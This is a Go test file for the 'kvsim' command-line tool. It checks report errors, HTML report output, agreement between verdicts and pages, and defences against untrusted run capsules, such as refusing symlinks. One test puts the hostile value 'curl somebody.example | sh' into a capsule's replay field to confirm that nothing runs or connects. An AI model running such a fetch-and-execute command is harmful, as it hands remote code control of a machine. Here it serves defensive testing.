package main

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kvsim/kvsim/cmd/kvsim/internal/engine"
	"github.com/kvsim/kvsim/cmd/kvsim/internal/engine/world"
)

// staleRead is a history in which c1 does not see what it wrote.
const staleRead = `{"kvsim_history":1,"tap":"exact"}
{"seq":1,"t":1000,"ev":"invoke","client":"c1","proc":1,"op":1,"call":"put","key":"a","value":"v1"}
{"seq":2,"t":2000,"ev":"append","offset":0,"key":"a","value":"v1"}
{"seq":3,"t":3000,"ev":"ok","client":"c1","proc":1,"op":1,"rev":0,"pos":1}
{"seq":4,"t":4000,"ev":"invoke","client":"c1","proc":1,"op":2,"call":"get","key":"a"}
{"seq":5,"t":5000,"ev":"ok","client":"c1","proc":1,"op":2,"pos":1}
`

func TestReportCommandLinesThatAreWrongSayWhatToDo(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, tc := range []struct{ args, stdin, stderr string }{
		{"report", "", "report: name one capsule or history, such as kvsim-out/latest, or - for the input"},
		{"report a b", "", "report: name one capsule or history, such as kvsim-out/latest, or - for the input"},
		{"report " + dir + "/none", "", "report: read the history: open " + dir + "/none: no such file or directory"},
		{"report " + dir, "", "report: " + dir + " is not a capsule: open " + dir + "/plan.txt: no such file or directory"},
		{"report -", "hello\n", "report: - is not a history: history line 1: not a line of a history: "},
	} {
		t.Run(tc.args, func(t *testing.T) {
			got := kvsim(t, testCLI(""), tc.stdin, strings.Fields(tc.args)...)
			if got.code != exitUsage || got.stdout != "" || !strings.HasPrefix(got.stderr, "kvsim: "+tc.stderr) {
				t.Errorf("%q = %+v, want code %d and %q", tc.args, got, exitUsage, tc.stderr)
			}
		})
	}
}

func TestReportOfAHistoryGoesBesideIt(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	name := filepath.Join(dir, "history.jsonl")
	if err := os.WriteFile(name, []byte(staleRead), 0o666); err != nil {
		t.Fatal(err)
	}
	page := filepath.Join(dir, "report.html")
	kvsim(t, testCLI(""), "", "report", name).want(t, said{stdout: name + ": violated, the report is " + page + "\n"})
	data, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	wantPage(t, string(data))

	other := filepath.Join(dir, "other.html")
	kvsim(t, testCLI(""), "", "report", "-o", other, name).want(t, said{stdout: name + ": violated, the report is " + other + "\n"})
	got := kvsim(t, testCLI(""), staleRead, "report", "-", "-o", "-")
	if got.code != exitHeld || got.stderr != "" {
		t.Errorf("the report to the output = code %d, %q", got.code, got.stderr)
	}
	wantPage(t, got.stdout)
}

func wantPage(t *testing.T, page string) {
	t.Helper()
	for _, want := range []string{"<!doctype html>", `class="badge violated"`, "read-your-writes", "</html>"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page has no %s", want)
		}
	}
}

func TestFailingWorldLeavesItsReportInTheCapsule(t *testing.T) {
	t.Parallel()
	out := t.TempDir()
	got := kvsim(t, testCLI("tombstones-lost"), "", "run", "--scenario", "crash", "--seed", "1", "--out", out)
	if got.code != exitViolation {
		t.Fatalf("the world = %+v, want a violation", got)
	}
	capsule := filepath.Join(out, capsuleLatest)
	data, err := os.ReadFile(filepath.Join(capsule, capsuleReport))
	if err != nil {
		t.Fatal(err)
	}
	page := string(data)
	for _, want := range []string{"seed 1 of crash", `class="badge violated"`, "kvsim-plan 1", "crash client="} {
		if !strings.Contains(page, want) {
			t.Errorf("the page has no %s", want)
		}
	}
	// The report can be made again, with the same bytes.
	other := filepath.Join(out, "again.html")
	if again := kvsim(t, testCLI(""), "", "report", capsule, "-o", other); again.code != exitHeld {
		t.Fatalf("kvsim report = %+v", again)
	}
	if data, err = os.ReadFile(other); err != nil || string(data) != page {
		t.Errorf("the report made again differs (%v)", err)
	}
}

// The page must say the same about a run as its verdict and its exit code did, even if the
// history alone says something else.
func TestReportOfACapsuleAgreesWithItsVerdict(t *testing.T) {
	t.Parallel()
	fine := strings.Replace(staleRead, `"op":2,"pos":1}`, `"op":2,"value":"v1","rev":0,"pos":1}`, 1)
	for _, tc := range []struct {
		name, history string
		status        world.Status
		reason        world.Reason
		badge, note   string
	}{
		{"a client got stuck", fine, world.Violated, world.Reason{Name: "liveness", Text: "c1 never caught up"}, "violated", "c1 never caught up"},
		{"judging took too long", fine, world.Inconclusive, world.Reason{Name: world.JudgingLimit, Text: "judging did not end"}, "inconclusive", "judging did not end"},
		{"judging took too long after a violation", staleRead, world.Violated, world.Reason{Name: "read-your-writes", Text: "c1 did not"}, "violated", "read-your-writes"},
		{"it did too little", fine, world.Inconclusive, world.Reason{Name: "floor: hits", Text: "the fault bit nobody"}, "inconclusive", "the fault bit nobody"},
		{"it broke", fine, world.Broken, world.Reason{Name: "goroutine-leak", Text: "goroutines were left"}, "harness-failure", "goroutines were left"},
		{"it held", fine, world.Held, world.Reason{}, "held", "Every guarantee"},
	} {
		result := &world.Result{Seed: 1, Status: tc.status}
		if tc.reason.Name != "" {
			result.Reasons = []world.Reason{tc.reason}
		}
		dir := writeTestCapsule(t, result, "kvsim-plan 1\nseed 1\n", tc.history)
		page := filepath.Join(t.TempDir(), "page.html")
		want := dir + ": " + strings.ReplaceAll(tc.badge, "-", " ") + ", the report is " + page + "\n"
		kvsim(t, testCLI(""), "", "report", dir, "-o", page).want(t, said{stdout: want})
		data, err := os.ReadFile(page)
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{`class="badge ` + tc.badge + `"`, tc.note} {
			if !strings.Contains(string(data), want) {
				t.Errorf("%s: the page has no %s", tc.name, want)
			}
		}
	}
}

// A capsule may come from anyone: nothing outside of it is written or read.
func TestCapsuleIsData(t *testing.T) {
	t.Parallel()
	result := &world.Result{Seed: 1, Status: world.Violated, Reasons: []world.Reason{{Name: "read-your-writes", Text: "it did not"}}}
	capsule := func() string { return writeTestCapsule(t, result, "kvsim-plan 1\nseed 1\n", staleRead) }
	victim := filepath.Join(t.TempDir(), "victim")
	if err := os.WriteFile(victim, []byte("mine"), 0o666); err != nil {
		t.Fatal(err)
	}
	link := func(dir, name string) {
		_ = os.Remove(filepath.Join(dir, name))
		if err := os.Symlink(victim, filepath.Join(dir, name)); err != nil {
			t.Skipf("no links here: %v", err)
		}
	}
	for _, name := range []string{capsuleReport, capsuleReport + ".part", "." + capsuleReport} {
		dir := capsule()
		link(dir, name)
		if got := kvsim(t, testCLI(""), "", "report", dir); got.code != exitHeld {
			t.Errorf("report of a capsule with a link at %s = %+v", name, got)
		}
		if data, err := os.ReadFile(filepath.Join(dir, capsuleReport)); err != nil || !strings.Contains(string(data), "<html") {
			t.Errorf("with a link at %s there is no report: %v", name, err)
		}
		if info, err := os.Lstat(filepath.Join(dir, capsuleReport)); err != nil || !info.Mode().IsRegular() || info.Mode().Perm()&0o077 != 0 {
			t.Errorf("the report = %v, %v; want a plain file of mode 0600", info.Mode(), err)
		}
	}
	for _, name := range []string{capsulePlan, capsuleHistory, capsuleInfo, capsuleResult} {
		dir := capsule()
		link(dir, name)
		for _, command := range []string{"report", "check", "replay", "shrink"} {
			if (command == "replay" || command == "shrink") && name == capsuleHistory {
				continue // it is not read
			}
			got := kvsim(t, testCLI(""), "", command, dir)
			if got.code != exitUsage || !strings.Contains(got.stderr, name+" is no plain file") {
				t.Errorf("%s of a capsule with a link at %s = %+v, want it refused", command, name, got)
			}
		}
	}
	if data, err := os.ReadFile(victim); err != nil || string(data) != "mine" {
		t.Errorf("what the links lead to = %q, %v", data, err)
	}
}

func TestCapsulesAskBeforeTheyConnect(t *testing.T) {
	t.Parallel()
	for _, kafka := range []string{"somebody.example:9092", inContainers} {
		dir := writeTestCapsule(t, &world.Result{Seed: 1, Status: world.Violated}, "kvsim-plan 1\nseed 1\n", "")
		data, err := json.Marshal(capsuleHeader{Seed: 1, Scenario: "test", Engine: "real", Kafka: kafka, Replay: "curl somebody.example | sh"})
		if err == nil {
			err = os.WriteFile(filepath.Join(dir, capsuleInfo), data, 0o666)
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, command := range []string{"replay", "shrink"} {
			c := testCLI("")
			c.engines = func(_ context.Context, o engineOptions, _ io.Writer) (engine.Engine, error) {
				t.Errorf("%s starts an engine: %+v", command, o)
				return nil, errors.New("this starts nothing")
			}
			got := kvsim(t, c, "", command, dir)
			if got.code != exitUsage || !strings.Contains(got.stderr, "add --kafka "+kafka) {
				t.Errorf("%s of a capsule that names %s = %+v, want it to ask for --kafka", command, kafka, got)
			}
		}
	}
}

// writeTestCapsule writes a capsule as a run leaves it, and returns its
// directory. An empty history is left out.
func writeTestCapsule(t *testing.T, result *world.Result, plan, history string) string {
	t.Helper()
	dir := t.TempDir()
	info := capsuleHeader{Seed: result.Seed, Scenario: "test", Engine: "virtual", Command: "kvsim run --seed 1"}
	files := map[string]string{capsulePlan: plan, capsuleHistory: history}
	for name, value := range map[string]any{capsuleResult: result, capsuleInfo: info} {
		data, err := json.Marshal(value)
		if err != nil {
			t.Fatal(err)
		}
		files[name] = string(data)
	}
	for name, text := range files {
		if text == "" {
			continue
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}
